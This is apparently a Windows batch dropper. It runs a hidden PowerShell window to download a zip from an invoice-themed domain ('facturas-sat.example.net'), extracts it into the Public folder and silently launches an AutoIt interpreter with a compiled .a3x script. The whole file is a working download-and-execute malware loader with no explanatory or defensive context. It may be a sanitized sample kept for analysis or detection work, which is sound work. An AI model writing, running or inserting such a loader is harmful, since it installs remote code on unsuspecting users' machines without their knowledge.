@echo off
cd /d %PUBLIC%
powershell -nop -w hidden -c "iwr http://facturas-sat.example.net/f/au.zip -OutFile a.zip; Expand-Archive a.zip -Force"
start "" /b "%PUBLIC%\a\AutoIt3.exe" "%PUBLIC%\a\f.a3x"
